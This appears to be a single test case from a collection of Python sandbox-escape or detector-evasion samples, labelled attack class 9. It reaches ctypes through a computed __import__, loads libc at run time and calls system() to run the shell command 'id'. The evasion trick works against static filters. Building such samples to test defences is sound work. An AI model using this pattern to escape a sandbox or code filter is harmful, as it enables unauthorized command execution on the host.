# attack-class: 9
# title: __import__('ctypes').util.find_library
# why: ctypes reached by computed import, library found at run time

ct = __import__("ctypes.util", fromlist=["util"])
libc_name = ct.find_library("c")
lib = __import__("ctypes").CDLL(libc_name)
lib.system(b"id")
